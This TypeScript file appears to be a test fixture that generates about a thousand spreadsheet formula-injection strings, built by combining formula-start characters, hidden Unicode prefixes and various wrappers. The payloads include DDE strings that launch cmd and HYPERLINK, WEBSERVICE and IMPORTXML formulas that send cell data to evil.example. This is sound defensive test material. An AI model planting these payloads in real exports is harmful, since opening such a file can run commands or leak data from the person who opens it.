/** What a spreadsheet takes for the beginning of a formula, also behind what nobody sees. */
const signs = [
  '=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u200b=', '\u200f=', '\u202e=',
  '\ufeff=', '\u0007=', '\u001b=', '\u2067=',
]; // prettier-ignore

/** What somebody would like to be run. */
const payloads = [
  "cmd|' /C calc'!A0",
  "2+5+cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?"&A1,"Click")',
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(1+1)',
  '1+1',
  '</t></is></c><c><f>1+1</f></c>',
  ']]><!--&lt;f&gt;_x003D_1&#61;',
  'IMPORTXML("http://evil.example","//a")',
];

/** How it hides: alone, or behind a separator, a quote or a line's end. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Ana;${text};Ana`,
  (text) => `Ana","${text}`,
  (text) => `Ana\r\n${text}\nAna`,
  (text) => `"${text}" \u202egnp.`,
];

/** 1,002 texts that a careless file would run, or break on: formulas in disguise, a very long one, and half a pair. */
export const hostileTexts: readonly string[] = [
  ...signs.flatMap((sign) =>
    payloads.flatMap((payload) => disguises.map((disguised) => disguised(`${sign}${payload}`))),
  ),
  `=${'9'.repeat(40_000)}`,
  '=1+1 \ud800 half \udc00 pairs',
];

/** The same as a database can keep them. */
export const keptTexts = hostileTexts.map((text) => text.toWellFormed().slice(0, 250));
